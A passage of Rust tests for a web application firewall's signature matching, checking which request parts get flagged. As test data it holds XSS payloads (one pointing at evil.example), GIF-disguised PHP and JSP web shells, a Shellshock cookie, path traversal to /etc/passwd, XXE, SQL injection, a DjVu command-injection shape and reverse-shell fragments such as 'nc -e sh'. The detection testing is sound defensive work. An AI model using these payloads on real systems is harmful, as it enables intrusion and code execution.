            r#"<x 1=">" onxxx=1"#,
            r#"<img alt=">" onerror=fetch(1)>"#,
            "<b title='a>b' onfocus=go() autofocus>",
            "<iframe src=mhtml:http://evil.example/a.mht!x.html>",
            r#"<img src="mocha:[code]">"#,
        ] {
            assert!(!ids(attack).is_empty(), "{attack}");
        }
        for benign in [
            r#"<a title="a > b" href="/docs">Compare</a> one=1, online = true"#,
            r#"<span data-x="x > y">Set notify_on=1</span> and turn the phone on=off"#,
            "Save the page as MHTML: src= is kept",
        ] {
            assert_eq!(ids(benign), Vec::<String>::new(), "{benign}");
        }
    }

    #[test]
    fn the_built_in_body_gate_stays_shut_for_ordinary_forms_and_json() {
        let set = SignatureSet::builtin().expect("built-in signatures");
        let body = set.groups.iter().find(|g| g.target == Target::Body);
        let gate = body.and_then(|g| g.ac_gate.as_ref()).expect("a body gate");
        for ordinary in [
            &b"first_name=Jane&email=jane.doe%40example.com&message=Hello+team%21+50%25+off"[..],
            br#"{"order_id":"A1","items":[{"sku":"SKU1","note":"ring twice","price":4.99}]}"#,
        ] {
            assert!(
                !gate.open(ordinary),
                "{}",
                String::from_utf8_lossy(ordinary)
            );
        }
        for attack in [
            &b"<?php system($_GET[1]);"[..],
            b"Content-Disposition: form-data; FILENAME=\"../x\"",
        ] {
            assert!(gate.open(attack), "{}", String::from_utf8_lossy(attack));
        }
    }

    #[test]
    fn word_gated_body_scan_finds_what_it_should() {
        // one pattern with a strong rare byte, one whose only rare byte is form syntax (`=`):
        // its required word gates it instead, so a form body without either is not scanned
        let body_set = set(
            Target::Body,
            FileKind::Regex,
            "<!entity\\s+\\w+\\s+system\n\\bfilename\\s*=\\s*[^&]*\\.\\.[/\\\\]\n",
        );
        let gate = body_set.groups[0].ac_gate.as_ref().expect("a gate");
        assert_eq!(gate.bytes, b"<");
        let form = "application/x-www-form-urlencoded";
        assert!(targets(&body_set, &raw_body(form, b"a=1&b=../x&c=%3D")).is_empty());
        for body in [
            &b"name=x&FileName=../../etc/passwd"[..],
            b"a=<!ENTITY x SYSTEM",
        ] {
            assert_eq!(
                targets(&body_set, &raw_body(form, body)),
                vec!["REQUEST_BODY"],
                "{}",
                String::from_utf8_lossy(body)
            );
        }
    }

    #[test]
    fn binary_declared_uploads_are_read_when_they_hold_a_script_tag() {
        let shell = set(Target::Body, FileKind::Literal, "gif89a\n");
        let polyglots: [&[u8]; 8] = [
            b"GIF89a;<?php @eval($_POST['p']);?>",
            b"GIF89a\x00<?= `id` ?>",
            b"GIF89a\x00<%@ page import=\"java.io.*\" %>",
            b"GIF89a\x00<% Response.Write(1) %>",
            b"GIF89a\x00<?PHP system($_GET[c]);",
            b"GIF89a\x00<%Runtime.getRuntime().exec(c)%>",
            b"GIF89a\x00<%! int x; %>",
            b"GIF89a\x00<script runat=\"server\">",
        ];
        for content in polyglots {
            assert_eq!(
                targets(&shell, &upload("image/gif", content)),
                vec!["FILES_CONTENT:f"]
            );
        }
        // a text part is read whatever it holds; a binary one without a tag is not
        assert_eq!(
            targets(&shell, &upload("text/plain", b"GIF89a")),
            vec!["FILES_CONTENT:f"]
        );
        for content in [
            &b"GIF89a\x01<?\x9c<%\x07"[..],
            b"GIF89a<?\x00",
            b"GIF89a<%%",
        ] {
            assert!(targets(&shell, &upload("image/gif", content)).is_empty());
        }
    }

    #[test]
    fn graphql_documents_are_scanned_as_one_line_and_only_well_formed_ones() {
        // a command after a line break, the shape of `%0aid`
        let newline_id = set(
            Target::Args,
            FileKind::Regex,
            "#@ transforms: removeNulls\n\\nid\\b\n",
        );
        let json = |doc: &str| {
            let mut h = Headers::default();
            h.push("Content-Type", b"application/json".to_vec());
            let mut m = RequestModel::from_head("POST", "/graphql?x=1", "HTTP/1.1", h);
            let body = serde_json::json!({ "q": "a\nid", "query": doc }).to_string();
            m.attach_body(body.into_bytes(), false);
            m
        };
        // a pretty-printed document selecting `id`: not a command; the other argument,
        // no document, is still read as sent
        assert_eq!(
            targets(&newline_id, &json("query V {\n  viewer {\n    id\n  }\n}")),
            vec!["ARGS:q"]
        );
        // text that only starts like a document is read as sent
        assert_eq!(
            targets(&newline_id, &json("{\nid")),
            vec!["ARGS:q", "ARGS:query"]
        );
    }

    #[test]
    fn djvu_uploads_are_read_whatever_they_declare() {
        let annotation = set(Target::Body, FileKind::Literal, "qx{\n");
        let djvu = b"AT&TFORM\x00\x00\x00mDJVUANTa\x00\x00\x00Q(metadata (Copyright \"\\\n\" . qx{id} . \\\n\" b \") )";
        assert_eq!(
            targets(&annotation, &upload("image/jpeg", djvu)),
            vec!["FILES_CONTENT:f"]
        );
        // the same bytes without the DjVu magic in front are an ordinary binary part
        assert!(targets(&annotation, &upload("image/jpeg", &djvu[8..])).is_empty());
    }

    fn raw_body(content_type: &str, content: &[u8]) -> RequestModel {
        let mut h = Headers::default();
        h.push("Content-Type", content_type.as_bytes().to_vec());
        let mut m = RequestModel::from_head("PUT", "/uploads/a.php", "HTTP/1.1", h);
        m.attach_body(content.to_vec(), false);
        m
    }

    #[test]
    fn binary_declared_raw_bodies_are_read_when_they_hold_a_script_tag() {
        let shell = set(Target::Body, FileKind::Literal, "gif89a\n");
        for ct in ["image/gif", "application/octet-stream"] {
            assert_eq!(
                targets(&shell, &raw_body(ct, b"GIF89a;<?php system($_GET['c']);?>")),
                vec!["REQUEST_BODY"]
            );
            assert!(targets(&shell, &raw_body(ct, b"GIF89a\x00\x01<?\x9c")).is_empty());
        }
        // a text body is read whatever it holds
        assert_eq!(
            targets(&shell, &raw_body("text/plain", b"GIF89a")),
            vec!["REQUEST_BODY"]
        );
    }

    #[test]
    fn graphql_literals_inside_a_json_body_are_argument_values() {
        // anchored at a value's start: the document as one JSON value cannot match
        let args = set(Target::Args, FileKind::Regex, "^\\d+\\s+or\\s+true\\b\n");
        let m = json_request(r#"{"query": "{ product(id: \"1 or true\") { name } }"}"#);
        assert_eq!(targets(&args, &m), vec!["ARGS:product.id"]);
        let plain = json_request(r#"{"query": "{ product(id: \"17\") { name } }"}"#);
        assert!(targets(&args, &plain).is_empty());
    }

    #[test]
    fn text_after_a_json_document_is_an_argument_value() {
        // anchored at the value's start: only the tail, not the whole body, can match
        let args = set(Target::Args, FileKind::Regex, "^\\s*<script\\b\n");
        let m = json_request(r#"{"c": "hi"} <script>alert(1)</script>"#);
        assert_eq!(m.body.as_ref().and_then(|b| b.json_stopped_at), Some(12));
        assert_eq!(targets(&args, &m), vec!["REQUEST_BODY"]);
        // a document that parses whole has no tail; one that fails before any field has
        // none either (the whole body is the value then)
        assert!(targets(&args, &json_request(r#"{"c": "x <script>"}"#)).is_empty());
        let cut = json_request(r#"<script>alert(1)</script>"#);
        assert_eq!(targets(&args, &cut), vec!["REQUEST_BODY"]);
    }

    #[test]
    fn the_cookie_header_is_seen_whole_by_header_lists_only() {
        // Shellshock split by the cookie parser: no single cookie holds `() { :; };`
        let shellshock = ("Cookie", "sid=abc; x=() { :; }; /usr/bin/id");
        let headers = set(
            Target::Headers,
            FileKind::Regex,
            "\\(\\s*\\)\\s*\\{\\s*:\\s*;\n",
        );
        for _ in 0..2 {
            assert_eq!(
                targets(&headers, &with_headers(&[shellshock])),
                vec!["REQUEST_HEADERS:Cookie"]
            );
        }
        // never remembered as clean: session ids would churn the cache and stay in memory
        assert!(targets(&headers, &with_headers(&[("Cookie", "sid=abc; flag")])).is_empty());
        assert!(headers.clean_headers.is_empty());
        // a line of well-formed pairs is left to the cookie values (args lists)
        let ssi = set(Target::Headers, FileKind::Literal, "={\n");
        let pairs = ("Cookie", "a={; b=1;c= 2 ;");
        assert!(targets(&ssi, &with_headers(&[pairs])).is_empty());
        let odd = ("Cookie", "a={; b=1; c");
        assert_eq!(
            targets(&ssi, &with_headers(&[odd])),
            vec!["REQUEST_HEADERS:Cookie"]
        );
        // every part has `=`, but a `(` makes the line worth reading whole
        let paren = ("Cookie", "x={; _=1 & (id)");
        assert_eq!(
            targets(&ssi, &with_headers(&[paren])),
            vec!["REQUEST_HEADERS:Cookie"]
        );
        // args lists see each cookie, not the header line as well
        let args = set(Target::Args, FileKind::Literal, "sid=\n");
        assert!(targets(&args, &with_headers(&[("Cookie", "sid=abc; b=1")])).is_empty());
    }

    /// A set without request patterns (only `response` ones, or none at all: CRS alone)
    /// passes a request over: no finding, and no header line remembered as clean.
    #[test]
    fn a_set_without_request_patterns_passes_requests_over() {
        let ua = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");
        let none = SignatureSet::from_sources(Vec::new()).expect("an empty set compiles");
        let responses = set(Target::Response, FileKind::Literal, "ORA-00933\n");
        for s in [&none, &responses] {
            for _ in 0..2 {
                assert!(targets(s, &with_headers(&[ua])).is_empty());
            }
            assert!(s.clean_headers.is_empty());
        }
        let headers = set(Target::Headers, FileKind::Literal, "union select\n");
        for _ in 0..2 {
            assert!(targets(&headers, &with_headers(&[ua])).is_empty());
        }
        assert!(!headers.clean_headers.is_empty());
    }

    #[test]
    fn remembered_clean_headers_never_hide_a_finding() {
        let re = set(Target::Headers, FileKind::Regex, "union\\s+select\n");
        let ua = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");
        let attack = ("X-Note", "1 union select 2");
        for _ in 0..3 {
            // the clean line is remembered; the attack is found every time, next to it
            assert!(targets(&re, &with_headers(&[ua])).is_empty());
            assert_eq!(
                targets(&re, &with_headers(&[ua, attack])),
                vec!["REQUEST_HEADERS:X-Note"]
            );
        }
        assert!(!re.clean_headers.is_empty());
        // the same value is clean for one target set and not for another: keyed apart
        let both = set(Target::Args, FileKind::Regex, "union\\s+select\n");
        assert_eq!(
            targets(&both, &with_headers(&[attack])),
            vec!["REQUEST_HEADERS:X-Note"]
        );
        // a location left unconfirmed because its pattern reached the cap is not remembered
        let names: Vec<String> = (0..MAX_LOCATIONS_PER_PATTERN + 2)
            .map(|i| format!("X-H{i:02}"))
            .collect();
        let many: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), attack.1)).collect();
        assert_eq!(
            targets(&re, &with_headers(&many)).len(),
            MAX_LOCATIONS_PER_PATTERN
        );
        let last = many[many.len() - 1];
        assert_eq!(targets(&re, &with_headers(&[last])).len(), 1);
    }

    #[test]
    fn rule_ids_are_known_by_pattern_and_by_file() {
        let set = SignatureSet::builtin().expect("built-in signatures");
        let first = "builtin:args/sqli.re:16";
        assert!(
            set.has_rule(first),
            "{first}: a pattern the corpus sees matching"
        );
        assert!(set.has_rule("builtin:args/sqli.re"));
        assert!(set.has_rule("builtin"));
        // a comment line, past the end, half a name, a file not there, a CRS id
        assert!(!set.has_rule("builtin:args/sqli.re:1"));
        assert!(!set.has_rule("builtin:args/sqli.re:100000"));
        assert!(!set.has_rule("builtin:args/sqli"));
        assert!(!set.has_rule("args/sqli.re"));
        assert!(!set.has_rule("builtin:args/nosuch.re"));
        assert!(!set.has_rule("942100"));
    }

    #[test]
    fn a_pattern_reports_its_first_locations_only() {
        let items: Vec<String> = (0..12)
            .map(|i| format!("\"k{i:02}\":\"1 union select 2\""))
            .collect();
        let body = format!("{{{}}}", items.join(","));
        let re = set(Target::Args, FileKind::Regex, "union\\s+select\n");
        let want: Vec<String> = (0..MAX_LOCATIONS_PER_PATTERN)
            .map(|i| format!("ARGS:k{i:02}"))
            .collect();
        assert_eq!(targets(&re, &json_request(&body)), want);
    }

    /// The built-in set with and without its plain scan (`crate::plain`) finds the same
    /// things, on values made plain or not of words that the regexes it concerns match,
    /// and of words that only look like them.
    #[test]
    fn plain_values_scanned_where_matches_can_start_find_what_a_full_scan_finds() {
        let with = SignatureSet::builtin().unwrap();
        let mut without = SignatureSet::builtin().unwrap();
        let mut scanned = 0;
        for g in &mut without.groups {
            scanned += usize::from(g.plain_scan.take().is_some());
        }
        // (a built-in group whose always-run regexes cannot all be scanned this way would
        // walk every plain value again)
        assert!(scanned >= 2, "{scanned}");
        const WORDS: &[&str] = &[
            "or 1 like 1",
            "1 or 2 like 3",
            "and true",
            "or 1",
            "OR 7 LIKE 7",
            "xor 1 like 2",
            "nc -e sh",
            "ncat -e bash",
            "netcat -c sh",
            "nc 10.0.0.1 4444",
            "bash -i 0",
            "sh -i 1",
            "nc.exe -e cmd",
            "ADw-",
            "+ADw-",
            "ADwAPA-",
            "adwa",
            "once",
            "since",
            "English shop",
            "hello",
            "A10293",
            "delivery",
            "order",
            "and",
            "or",
            "1",
            "42",
            "-",
            ".",
            ",",
            "_",
            "@",
            ":",
            "'",
            "<b>",
            "%20",
            "select",
            "-e",
            "-i",
        ];
        let mut pick = below(0x5eed_1234_abcd_0001);
        let mut differences = Vec::new();
        let mut plain_values = 0;
        for round in 0..3000 {
            let mut value = String::new();
            for w in 0..1 + pick(4) {
                if w > 0 && pick(3) > 0 {
                    value.push(' ');
                }
                value.push_str(WORDS[pick(WORDS.len())]);
            }
            plain_values += usize::from(palisade_http::transform::is_plain(value.as_bytes()));
            let json = serde_json::json!({ "note": value, "items": [{ "sku": value }] });
            let query: String = url_escape(&value);
            for m in [
                json_request(&json.to_string()),
                RequestModel::from_head(
                    "GET",
                    &format!("/s?q={query}"),
                    "HTTP/1.1",
                    Headers::default(),
                ),
            ] {
                let (mut a, mut b) = (Vec::new(), Vec::new());
                with.match_request(&m, 4, &mut a);
                without.match_request(&m, 4, &mut b);
                let key = |f: &Finding| (f.id.clone(), f.target.clone());
                let (a, b): (Vec<_>, Vec<_>) =
                    (a.iter().map(key).collect(), b.iter().map(key).collect());
                if a != b {
                    differences.push((round, value.clone(), a, b));
                }
            }
        }
        assert!(plain_values > 500, "{plain_values}");
        assert!(
            differences.is_empty(),
            "{:?}",
            &differences[..differences.len().min(3)]
        );
    }

    fn url_escape(value: &str) -> String {
        value
            .bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'-' | b'_' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect()
    }
}
